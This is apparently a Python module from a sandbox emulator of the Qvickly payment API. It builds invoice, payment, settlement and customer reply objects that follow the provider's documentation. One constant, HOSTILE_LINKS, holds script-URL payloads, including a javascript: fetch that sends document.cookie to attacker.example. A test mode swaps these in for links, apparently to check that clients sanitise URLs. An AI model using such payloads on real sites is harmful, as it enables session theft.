"""Reply shapes as the documentation pages show them, every variant of each.

Summary rows and full payment objects differ in units (kronor as text or
number; öre in strings) and in types (ids as text or int), as the real API's
pages do; which variant an invoice gets depends on its number, so every
listing shows them all.
"""

from sandbox import readings
from sandbox.world import QVICKLY_MERCHANTS, short_form, world

API_VERSION = "2.5.0"  # the latest; the getInvoiceByHash example reports it too
SERVICE_ID, MODULE_ID = 318004, 543210
# Links in replies point at a reserved domain: the docs warn that `fileurl`
# may be dead, and a sandbox must never send anyone to the real provider.
DOCUMENT_BASE = "https://documents.qvickly-sandbox.example"
SHOP_BASE = "https://shop.qvickly-sandbox.example"
NEVER = "0000-00-00 00:00:00"
CARD_METHODS = ("8", "24", "266")  # Methods.md: card, card/bank, card (seamless)
# What the "script" reading sends in place of every link: nothing a browser should follow.
HOSTILE_LINKS = (
    "javascript:alert(document.cookie)",
    " JavaScript:fetch('https://attacker.example/?'+document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",
)


def single_object(invoice, logid: int) -> dict:
    """One full object with the extra top-level fields of the getInvoiceByHash page."""
    customer = world().customer_by_identity(invoice.identity)
    addresses = _all_addresses(customer)
    return {
        "apiLogsid": str(logid),
        **full_object(invoice, customer),
        "apiClient": "Sandbox:Webshop:1.0",
        "alladdresses": str(len(addresses) if addresses else 1),
        "apiVersion": API_VERSION,
    }


def payment_info(invoice) -> dict:
    """getPaymentinfo's answer, as Get-payment-info.md documents it (not getInvoiceByHash's).

    No number (the client asked with it), no due or paid date and no balance;
    while the invoice is open the credit check's result stands in the status
    (Status.md); Card comes with card payments and Settlement once the payment
    has been paid out to the merchant.
    """
    customer = world().customer_by_identity(invoice.identity)
    full = full_object(invoice, customer)
    payment = full["PaymentData"]
    reply = {
        "PaymentData": {
            "method": invoice.payment_method,
            "paymentplanid": "1" if invoice.payment_method == "4" else "",
            **{key: payment[key] for key in ("currency", "country", "language", "autoactivate", "orderid")},
            "status": invoice.credit_check if invoice.is_open and invoice.credit_check else invoice.status,
            "paymentid_related": invoice.related_number,
            "url": payment["url"],
        },
        "PaymentInfo": {
            key: value for key, value in full["PaymentInfo"].items() if key not in ("invoiceStatus", "balancedue")
        },
    }
    if invoice.payment_method in CARD_METHODS:
        reply["Card"] = _card(invoice)
    settlement = _settlement(invoice.settled_on(world().today))
    if settlement is not None:
        reply["Settlement"] = settlement
    buyer = full["Customer"]
    reply["Customer"] = {
        "nr": buyer["nr"],
        "pno": buyer["pno"].replace("-", ""),  # as the example writes it, + kept
        "Billing": {"company": "", **buyer["Billing"]},
        "Shipping": {"company": "", **buyer["Shipping"]},
    }
    reply["Articles"] = [
        {**line, "tax": str(article.vat_ore)} for line, article in zip(full["Articles"], invoice.articles, strict=True)
    ]
    reply["Cart"] = full["Cart"]
    return reply


def _card(invoice):
    n = int(invoice.number)
    recurring = n % 3 == 0  # a subscription card: later payments reuse this one
    return {
        "promptname": "0",
        "recurring": "1" if recurring else "0",
        "recurringnr": invoice.number if recurring else "",
        "accepturl": f"{SHOP_BASE}/accept",
        "cancelurl": f"{SHOP_BASE}/cancel",
        "callbackurl": f"{SHOP_BASE}/callback",
        "returnmethod": "GET",
    }


def _settlement(payout):
    """Paid out weekly (QvicklyInvoice.settled_on), numbered by year and week; None until then."""
    if payout is None:
        return None
    return {"number": settlement_id(payout), "date": payout.isoformat()}


def settlement_id(payout) -> str:
    year, week, _ = payout.isocalendar()
    return f"{year}{week:02d}"


def settlement_row(payout, invoices) -> dict:
    """A getSettlements entry as Get-settlements.md shows it."""
    number = settlement_id(payout)
    return {
        "SettlementId": number,
        "SettlementDate": payout.isoformat(),
        "SettlementURL": f"{DOCUMENT_BASE}/avrakning/{next(iter(QVICKLY_MERCHANTS))}/{number}-{payout.isoformat()}.pdf",
        "InvoiceIds": [invoice.number for invoice in invoices],
    }


def due_payment_row(invoice, today) -> dict:
    """A getDuePayments row as Get-due-payments.md shows it: all text, no customer.
    `topay` is what is still owed, in kronor."""
    return {
        "number": invoice.number,
        "orderid": str(int(invoice.number) + 300000),  # as PaymentData.orderid
        "invoiceDate": invoice.invoice_date.isoformat(),
        "invoiceStatus": invoice.collection_state(today),
        "dueDate": invoice.due_date.isoformat(),
        "topay": _kronor_text(invoice.balance_ore),
    }


def summary_row(invoice, customer) -> dict:
    """A summary row; amounts in kronor.

    Even invoice numbers get the getInvoicesByPno page's types (string ids,
    "1000.00" amounts), odd ones the getInvoicesByCustomer page's (int ids,
    bare-number balance), so both show up in every listing.
    """
    number = int(invoice.number)
    as_text = number % 2 == 0
    # 0 on a cancelled row, as in the docs' example; whether a paid one keeps its total
    # is undocumented, and one reading says 0 there too.
    zeroed = invoice.status == "Cancelled" or (
        not invoice.is_open and readings.current("qvickly_settled_topay") == "zero"
    )
    topay = 0 if zeroed else invoice.total_ore
    ident = str if as_text else int
    row = {
        "status": _row_status(invoice),
        "name": customer.name,
        "invoicedate": invoice.invoice_date.isoformat(),
        "duedate": invoice.due_date.isoformat(),
        "topay": _kronor_text(topay),
        "invoiceid_real": ident(invoice.number),
        "fileurl": _link(f"{DOCUMENT_BASE}/mexc/customerinvoices/{invoice.hash}.pdf", invoice),
        "balancedue": _kronor_text(invoice.balance_ore) if as_text else _kronor_number(invoice.balance_ore),
        "invoicetype": invoice.invoice_type,
        "distributor_status": invoice.distributor_status,
        "creditinvoiceid": ident(invoice.related_number or ("" if as_text else 0)),
        "hash": invoice.hash,
        "mm3servicesid": ident(SERVICE_ID),
        "mexcModulesid": ident(MODULE_ID),
        "mexcCustomerinvoicesid": ident(_internal_id(invoice)),
    }
    if number % 3 == 0:
        del row["fileurl"]  # "The fileurl is not always present."
    return row


def _link(url, invoice):
    if readings.current("qvickly_links") == "script":
        return HOSTILE_LINKS[int(invoice.number) % len(HOSTILE_LINKS)]
    return url


def _row_status(invoice):
    # The getInvoicesByCustomer page shows "Sent" for an unpaid invoice.
    if invoice.status in ("Created", "Handling") and int(invoice.number) % 4 == 1:
        return "Sent"
    return invoice.status


def full_object(invoice, customer) -> dict:
    """A full payment object; amounts are öre in strings."""
    return {
        "Cart": {
            "Handling": {"withouttax": "0", "taxrate": "25"},
            "Shipping": {"withouttax": "0", "taxrate": "25"},
            "Total": {
                "rounding": "0",
                "withouttax": str(invoice.net_ore),
                "tax": str(invoice.vat_ore),
                "withtax": str(invoice.total_ore),
            },
        },
        "PaymentData": _payment_data(invoice, customer),
        "Customer": _customer(customer),
        "Articles": [_article(article) for article in invoice.articles],
        "PaymentInfo": {
            "paymentdate": invoice.invoice_date.isoformat(),
            "paymentterms": str((invoice.due_date - invoice.invoice_date).days),
            "yourreference": customer.contact,
            "ourreference": "",
            "projectname": "",
            "deliverymethod": "",
            "deliveryterms": "",
            "invoiceStatus": invoice.distributor_status,
            "balancedue": str(invoice.balance_ore),
        },
    }


def _payment_data(invoice, customer):
    return {
        "method": invoice.payment_method,
        "currency": invoice.currency,
        "country": "SE",
        "language": "sv",
        "autoactivate": "0",
        "orderid": str(int(invoice.number) + 300000),
        "status": invoice.status,
        "paymentid_related": invoice.related_number,
        "accepturl": f"{SHOP_BASE}/accept",
        "cancelurl": f"{SHOP_BASE}/cancel",
        "returnmethod": "",
        "callbackurl": f"{SHOP_BASE}/callback",
        "alladdresses": _all_addresses(customer) or "",
        "url": _link(f"{DOCUMENT_BASE}/invoice/{next(iter(QVICKLY_MERCHANTS))}/{invoice.hash}", invoice),
        "mexcCustomerinvoicesid": str(_internal_id(invoice)),
        "number": invoice.number,
        "duedate": invoice.due_date.isoformat(),
        "paiddate": _paid_at(invoice),
    }


def _customer(customer):
    first, _, last = (customer.contact or customer.name).partition(" ")
    billing = {
        "firstname": first,
        "lastname": last,
        "type": "company" if customer.is_company else "person",
        "street": customer.street,
        "street2": "",
        "zip": customer.zip_code,
        "city": customer.city,
        "country": "SE",
        "phone": customer.phone,
        "email": customer.email,
    }
    if customer.is_company:
        billing["company"] = customer.name
    shipping = dict.fromkeys(("firstname", "lastname", "street", "street2", "zip", "city", "country", "phone"), "")
    shipping["type"] = billing["type"]
    signer = customer.signer_identity[2:] if customer.signer_identity else ""
    return {
        "nr": customer.qvickly_number or "",
        "pno": short_form(customer.identity),
        "Billing": billing,
        "Shipping": shipping,
        "companySigner": {"pno": signer},
    }


def _all_addresses(customer):
    """Companies get the address list, persons the empty string: the docs show both."""
    if not customer.is_company:
        return []
    return [
        {
            "street": customer.street,
            "city": customer.city,
            "country": "SE",
            "phone": "",
            "company": customer.name,
            "zip": customer.zip_code,
            "email": customer.email,
            "type": "company",
        }
    ]


def _article(article):
    return {
        "artnr": article.artnr,
        "title": article.title,
        "quantity": article.quantity,
        "aprice": str(article.aprice_ore),
        "discount": str(article.discount_pct),
        "withouttax": str(article.net_ore),
        "taxrate": str(article.vat_rate),
    }


def _paid_at(invoice):
    if invoice.paid_date is None:
        return NEVER
    n = int(invoice.number)  # a stable time of day, so replies never change
    return f"{invoice.paid_date.isoformat()} {8 + n % 10:02d}:{n % 60:02d}:{n * 7 % 60:02d}"


def _internal_id(invoice):
    return 1000000 + int(invoice.number)


def _kronor_text(ore):
    minus = "-" if ore < 0 else ""
    return f"{minus}{abs(ore) // 100}.{abs(ore) % 100:02d}"


def _kronor_number(ore):
    """A bare JSON number: 1000 for whole kronor, 1000.5 otherwise."""
    return ore // 100 if ore % 100 == 0 else round(ore / 100, 2)


def customer_row(customer) -> dict:
    """A getCustomersByName row, every field the docs' example shows, as text.

    `companyno` holds the number of the register entry, written with 10 digits
    like the example's "0000000000"; persons have theirs there too (the docs
    show only a placeholder, so which numbers it holds is this emulator's guess).
    """
    row = dict.fromkeys(CUSTOMER_ROW_FIELDS, "")
    row.update(
        mexcParamvaluesetsid=str(int(customer.qvickly_number) + 1000000),
        date="2024-01-01 00:00:00",
        customerid=customer.qvickly_number,
        name=customer.name,
        address=customer.street,
        postcode=customer.zip_code,
        postoffice=customer.city,
        mobile=customer.phone,
        email=customer.email,
        reference=customer.contact,
        companyno=short_form(customer.identity).replace("-", ""),
        currency="SEK",
        language="sv",
        mexcModulesid=str(MODULE_ID),
        mm3servicesid=str(SERVICE_ID),
        country="Sverige",
        countrycode="SE",
    )
    return row


# Get-customers-by-name.md's response row, in its order.
CUSTOMER_ROW_FIELDS = [
    "mexcParamvaluesetsid",
    "date",
    "customerid",
    "name",
    "address",
    "postcode",
    "postoffice",
    "state",
    "countrycode",
    "telephone",
    "fax",
    "mobile",
    "deliveryaddress",
    "deliverypostcode",
    "deliverypostoffice",
    "email",
    "reference",
    "companyno",
    "vatregno",
    "paymentterms",
    "rebate",
    "currency",
    "language",
    "export",
    "handlingcharge",
    "reversetax",
    "mexcModulesid",
    "mm3servicesid",
    "country",
    "creditlimit",
    "customertypecode",
    "deliveryterms",
    "deliverymethod",
    "deliveryname",
    "deliveryaddress2",
    "deliverycountrycode",
    "deliverycountry",
    "profile",
    "name2",
    "address2",
    "propertydesignation",
    "housingassociationregno",
    "status",
    "statuslog",
    "longitude",
    "latitude",
    "glncode",
    "reference_order",
    "email_order",
    "reference_offer",
    "email_offer",
    "notes",
    "origin",
    "pricelist",
    "crediflowPartyId",
    "internalCreditLimit",
    "internalRegressLimit",
    "sendByPostOnly",
    "dontSendEFaktura",
]
